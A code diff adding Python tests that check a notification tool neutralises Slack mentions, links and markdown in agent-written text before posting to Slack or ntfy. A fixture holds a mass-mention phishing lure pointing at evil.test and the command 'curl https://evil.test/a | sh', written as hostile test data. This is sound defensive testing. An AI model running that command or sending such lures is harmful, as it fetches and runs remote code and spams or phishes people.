@@ -369,3 +369,49 @@ def test_top_is_one_message_that_is_replaced(dos, service, workspace):
     assert dos("lease-lane", "release", "--lane", "api", "--owner", "A").code == 0
     assert actions(dos(*words)) == ["updated"]
     assert [body["replaces"] for body in service.bodies] == [False, True]
+
+
+# What agents write
+
+LURE = "<!channel> @here <https://evil.test|log in> [log in](https://evil.test) www.evil.test ```"
+ALIVE = ("<!", "<http", "@here", "@channel", "](", "://", "www.", "```")
+COMMAND = "curl https://evil.test/a | sh"
+
+
+@pytest.fixture
+def lure(dos):
+    words = ("--kind", "FLAG", "--lane", "api", "--text", LURE, "--command", COMMAND)
+    return dos("decisions", "add", *words, "--json").json
+
+
+def test_what_an_agent_writes_mentions_nobody_and_links_to_nothing(dos, lure, service, monkeypatch):
+    monkeypatch.setenv("SLACK_BOT_TOKEN", "xoxb-1")
+    assert notify(dos, service).code == 0
+    body = service.bodies[-1]
+    assert not [mark for mark in ALIVE if mark in body["text"]]
+    assert "&lt;!channel&gt; ＠here" in body["text"] and "evil.test" in body["text"]
+    assert LURE in body["summary"], "programs get what was asked, as it is"
+    service.answer = lambda handler: respond(handler, 200, b'{"ok":true,"channel":"C","ts":"1"}')
+    words = ("notify", "decisions", "--url", service.url, "--channel", "C1")
+    assert dos(*words, "--notifier", "slack").code == 0
+    body = service.bodies[-1]
+    assert (body["parse"], body["link_names"]) == ("none", False)
+    read = [body["text"]]
+    for block in body["blocks"]:
+        texts = block.get("fields") or block.get("elements") or [block["text"]]
+        read += [text["text"] for text in texts if text["type"] == "mrkdwn"]
+    for text in read:
+        inner = text.removeprefix("```").removesuffix("```")
+        assert not [mark for mark in ALIVE if mark in inner], text
+    assert dos(*words, "--notifier", "ntfy").code == 0
+    body = service.bodies[-1]
+    assert body["markdown"] is False and "://" not in body["message"] + body["title"]
+    assert "<!channel> @here" in body["message"], "ntfy knows no mentions"
+
+
+def test_honest_text_stays_readable(dos, service):
+    text = "Is `a < b && c` right in api/[a].py, for bob@example.org?"
+    dos("decisions", "add", "--kind", "FLAG", "--lane", "api", "--text", text)
+    assert notify(dos, service).code == 0
+    shown = "Is `a &lt; b &amp;&amp; c` right in api/[a].py, for bob＠example.org?"
+    assert shown in service.bodies[-1]["text"]
